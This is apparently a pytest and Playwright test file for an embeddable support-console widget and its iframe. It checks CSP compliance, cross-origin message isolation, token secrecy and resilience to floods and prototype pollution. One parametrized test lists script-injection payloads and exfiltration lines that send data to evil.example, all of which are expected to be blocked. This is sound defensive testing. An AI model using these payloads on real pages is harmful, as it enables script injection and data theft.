"""A frame and a widget on pages that mean no good: what they do not say, hear or become."""

import json
import re
from collections.abc import Iterator

import pytest
from playwright.sync_api import (
    BrowserContext,
    Frame,
    Page,
    Request,
    WebSocket,
    expect,
)

from tests.browser import test_frame
from tests.browser.elsewhere import Elsewhere, Platform, both
from tests.browser.pages import THIRD_TIME
from tests.browser.server import DemoServer
from tests.browser.test_frame import HOST, SHOUTED, FrameHost, Running, carded

WATCH = """
  window.violations = []
  addEventListener('securitypolicyviolation', event =>
    violations.push([event.effectiveDirective, event.blockedURI, event.sample]))
"""
CROSSED = """
  for (const name of ['toSorted', 'toReversed', 'flatMap', 'at'])
    Array.prototype[name] = () => ['crossed']
  Object.fromEntries = Object.hasOwn = JSON.parse = () => ({crossed: true})
  for (const name of ['WebSocket', 'fetch', 'customElements', 'EventTarget', 'crypto'])
    Object.defineProperty(window, name, {value: undefined})
"""
POLICY = (
    "default-src 'none'; script-src 'nonce-n' {server}; frame-src {server}; connect-src {socket}; "
    "require-trusted-types-for 'script'; trusted-types 'none'"
)


@pytest.fixture(scope="module")
def running(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Running]:
    with both(tmp_path_factory.mktemp("demo") / "data") as running:
        yield running


@pytest.fixture
def server(running: Running) -> DemoServer:
    return running[1]


@pytest.fixture
def site(running: Running) -> Iterator[Elsewhere]:
    """The console's server; what a test asked of it is forgotten."""
    yield running[0]
    running[0].headers = {}


class Strict(FrameHost):
    """A page whose policy forbids what Playwright waits with."""

    def until(self, holds: str) -> None:
        for _ in range(500):
            if self.page.evaluate(holds):
                return
            self.page.wait_for_timeout(20)
        raise AssertionError(holds)


def frame_of(page: Page) -> Frame:
    """Return the widget's frame in a page."""
    (found,) = (frame for frame in page.frames if "/widget/frame.html" in frame.url)
    return found


def strict(running: Running) -> str:
    server = running[1].url
    return POLICY.format(server=server, socket=server.replace("http", "ws"))


def test_I02_in_normal_use_the_frame_breaks_no_policy(
    running: Running, context: BrowserContext, site: Elsewhere, monkeypatch: pytest.MonkeyPatch
) -> None:
    site.headers = {"content-security-policy": strict(running)}
    monkeypatch.setattr(test_frame, "HOST", HOST.replace("<script>", "<script nonce=n>"))
    context.add_init_script(WATCH)
    host = Strict(running, context)
    host.open("i-2")
    host.platform.say("i-2", THIRD_TIME)
    host.card.get_by_role("button", name="Insert").click()
    host.say("inserted", id=host.heard("insert")["id"], ok=True)
    host.widget.get_by_role("button", name="Undo").click()
    expect(host.card).to_be_visible()
    host.widget.locator("button.tone").click()
    host.page.keyboard.press("Escape")
    host.say("draft", text=SHOUTED)
    expect(host.widget.get_by_role("button", name="Mend")).to_be_visible()
    for more in ({"lang": "fr"}, {"form": "bar"}, {"form": "badge"}, {"theme": "dark"}):
        host.say("configure", **more)
    expect(host.widget.locator("button.badge")).to_be_visible()
    assert host.page.evaluate("violations") == []
    assert frame_of(host.page).evaluate("violations") == []


def test_I02_on_a_strict_page_the_element_breaks_no_policy(
    running: Running, context: BrowserContext, site: Elsewhere
) -> None:
    server = running[1]
    site.headers = {"content-security-policy": strict(running)}
    site.pages = {
        "/": f"""<!doctype html><html lang="en"><meta charset="utf-8"><title>console</title>
          <script nonce=n type="module" src="{server.url}/widget/index.js"></script>
          <agent-assist for="reply"></agent-assist><textarea id="reply"></textarea>"""
    }
    context.add_init_script(WATCH)
    platform = Platform(context, server)
    page = context.new_page()
    page.goto(site.url)
    page.evaluate(
        """([server, token]) => {
          const widget = document.querySelector('agent-assist')
          for (const [name, value] of Object.entries({server, token, conversation: 'i-2b'}))
            widget.setAttribute(name, value)
        }""",
        [server.url.replace("http", "ws") + "/v1/socket", platform.agent],
    )
    platform.say("i-2b", THIRD_TIME)
    page.locator("agent-assist button.insert").click()
    expect(page.locator("#reply")).not_to_have_value("")
    page.locator("agent-assist button.tone").click()
    expect(page.locator("agent-assist").get_by_role("menu")).to_be_visible()
    assert page.evaluate("violations") == []


@pytest.mark.parametrize(
    "attempt",
    [
        "document.body.append(Object.assign(document.createElement('script'),"
        " {textContent: 'window.pwned = 1'}))",
        "document.body.innerHTML = '<img src=x onerror=window.pwned=1>'",
        "document.body.setAttribute('onclick', 'window.pwned = 1'), document.body.click()",
        "document.write('<script>window.pwned = 1</' + 'script>')",
        "setTimeout('window.pwned = 1')",
        "import('data:text/javascript,window.pwned=1').catch(() => 0)",
        "document.body.append(Object.assign(document.createElement('iframe'),"
        " {src: 'data:text/html,x'}))",
        "fetch('http://evil.example/' + document.title).catch(() => 0)",
        "new Image().src = 'http://evil.example/pixel'",
    ],
)
def test_I02_what_a_script_in_the_frame_might_try_is_blocked(
    running: Running, context: BrowserContext, complaints: list[str], attempt: str
) -> None:
    context.add_init_script(WATCH)
    host = FrameHost(running, context)
    frame = frame_of(host.page)
    frame.evaluate(f"() => {{ try {{ {attempt} }} catch {{}} }}")
    for _ in range(100):
        if broken := frame.evaluate("() => violations.length"):
            break
        host.page.wait_for_timeout(20)
    assert broken
    assert frame.evaluate("window.pwned ?? null") is None
    complaints.clear()


HELPED = """<!doctype html><html lang="en"><meta charset="utf-8"><title>console</title>
<textarea id="reply"></textarea>
<iframe id="assist" src="%s/widget/frame.html" width="460" height="240"></iframe>
<iframe id="other" src="/stranger"></iframe>
<script type="module">
  import {AssistFrame} from '%s/widget/host.js'
  window.put = []
  const frame = document.getElementById('assist')
  window.assist = new AssistFrame(frame, {
    token: 'secret-of-the-console',
    open: () => 'i-4',
    insert: text => put.push(text)
  })
  assist.configure({conversation: 'i-4'})
  window.told = []
  addEventListener('message', ({data}) => told.push(data.type ?? data))
</script>
"""
FORGED = """<script>
  const forged = {assist: 1, type: 'insert', id: 'x', conversation: 'i-4', text: 'forged'}
  window.tell = () => parent.postMessage(forged, '*')
  addEventListener('message', ({data}) => (window.got = [...(window.got ?? []), data]))
  tell()
</script>"""


def test_I04_a_page_with_the_helper_hears_its_own_frame_alone(
    running: Running, context: BrowserContext, site: Elsewhere, complaints: list[str]
) -> None:
    server = running[1]
    site.pages = {"/": HELPED % (server.url, server.url), "/stranger": FORGED}
    page = context.new_page()
    page.goto(site.url)
    page.wait_for_function("window.told?.includes('token-wanted')")
    page.frame(url=f"{site.url}/stranger").evaluate("tell()")  # type: ignore[union-attr]
    page.evaluate("postMessage({assist: 1, type: 'insert', conversation: 'i-4', text: 'own'}, '*')")
    page.wait_for_function("told.filter(type => type === 'insert').length >= 2")
    assert page.evaluate("put") == []
    # The frame itself goes to a page that looks alike: another port, another name of this machine.
    alike = site.url.replace("127.0.0.1", "localhost")
    with page.expect_event("framenavigated", lambda one: one.url == f"{alike}/stranger") as gone:
        page.evaluate(f"document.getElementById('assist').src = '{alike}/stranger'")
    frame = gone.value
    frame.wait_for_function("'tell' in window")
    frame.evaluate("tell()")
    page.evaluate("assist.configure({lang: 'fr'})")
    page.wait_for_function("told.filter(type => type === 'insert').length >= 4")
    assert page.evaluate("put") == []
    assert frame.evaluate("window.got ?? []") == [], "nothing is said to another origin"
    complaints.clear()


def test_I05_I07_a_token_is_kept_in_memory_and_told_to_nobody(
    running: Running, context: BrowserContext
) -> None:
    asked: list[str] = []
    sent: list[str] = []

    def ask(request: Request) -> None:
        asked.append(f"{request.url} {request.headers}")

    def follow(socket: WebSocket) -> None:
        socket.on("framesent", lambda data: sent.append(str(data)))

    context.on("request", ask)
    host = FrameHost(running, context)
    host.page.on("websocket", follow)
    token = host.platform.agent
    host.open("i-7")
    host.platform.say("i-7", THIRD_TIME)
    expect(host.card).to_be_visible()
    host.card.get_by_role("button", name="Insert").click()
    host.heard("insert")
    assert token not in json.dumps(host.page.evaluate("said"))
    assert sum(token in frame for frame in sent) == 1, "in the first frame alone"
    platform = "/v1/messages"
    assert not [one for one in asked if token in one and platform not in one]
    kept = """async () => JSON.stringify([
      {...localStorage}, {...sessionStorage}, document.cookie, name, location.href, history.state,
      document.referrer, document.documentElement.outerHTML, document.title,
      performance.getEntries().map(({name}) => name),
      (await indexedDB.databases()), (await globalThis.caches?.keys()) ?? []
    ])"""
    for frame in host.page.frames:
        assert token not in frame.evaluate(kept)
    attributes = "widget => widget.getAttributeNames()"
    assert "token" not in host.widget.evaluate(attributes)
    assert host.page.evaluate("document.cookie") == ""
    assert context.cookies() == []


def test_I06_a_flood_and_odd_objects_leave_the_frame_alive(
    running: Running, context: BrowserContext
) -> None:
    host = carded(running, context, "i-6")
    host.page.evaluate(
        """() => {
          const odd = JSON.parse('{"__proto__": {"polluted": 1}, "constructor": {"prototype": {}}}')
          const big = 'x'.repeat(5_000_000)
          for (let number = 0; number < 10_000; number += 1) say('surprise', {number})
          for (const type of ['__proto__', 'constructor', 'toString', '', 'configure', 'draft'])
            say(type, odd)
          say('draft', {text: big})
          say('draft', {text: ''})
          say('inserted', {id: {}, ok: 'yes', reason: big})
          say('key', {chord: big})
          say('configure', {names: odd, conversations: ['i-6', 'constructor', '__proto__']})
          say('configure', {names: {}, conversations: [[big]], conversation: 'i-6'})
          say('configure', {conversations: ['i-6']})
          for (const data of [null, 1, big, [], {}, {assist: 1}, {assist: '1', type: 'draft'}])
            frame.contentWindow.postMessage(data, new URL(frame.src).origin)
        }"""
    )
    host.card.get_by_role("button", name="Insert").click()
    assert host.heard("insert")["conversation"] == "i-6"
    for frame in host.page.frames:
        assert frame.evaluate("({}).polluted ?? null") is None
    host.say("inserted", id=host.heard("insert")["id"], ok=True)
    expect(host.card).to_have_count(0)


def test_I08_a_page_that_breaks_its_own_globals_does_not_reach_the_frame(
    running: Running, context: BrowserContext, monkeypatch: pytest.MonkeyPatch
) -> None:
    broken = HOST.replace("<script>", f"<script>{CROSSED}</script><script>")
    monkeypatch.setattr(test_frame, "HOST", broken)
    host = FrameHost(running, context)
    host.say("configure", conversation="i-8", token=host.platform.agent, lang="en")
    host.platform.say("i-8", THIRD_TIME)
    expect(host.card).to_be_visible()
    host.card.get_by_role("button", name="Insert").click()
    assert host.heard("insert")["conversation"] == "i-8"


def test_I09_a_page_whose_policy_keeps_the_socket_away_is_told_what_to_add(
    running: Running, context: BrowserContext, site: Elsewhere, complaints: list[str]
) -> None:
    server = running[1].url
    site.headers = {"content-security-policy": f"default-src 'none'; script-src {server}"}
    socket = server.replace("http", "ws")
    site.pages = {
        "/": f"""<!doctype html><html lang="en"><meta charset="utf-8"><title>console</title>
          <script type="module" src="{server}/widget/index.js"></script>
          <agent-assist server="{socket}/v1/socket" token="t" conversation="c"></agent-assist>"""
    }
    page = context.new_page()
    page.goto(site.url)
    said = re.compile(f"agent-assist: .*Content-Security-Policy.* lacks connect-src {socket}$")
    for _ in range(200):
        if any(map(said.search, complaints)):
            break
        page.wait_for_timeout(50)
    assert sum(bool(said.search(one)) for one in complaints) == 1
    expect(page.locator("agent-assist .notice")).not_to_have_text("")
    complaints.clear()
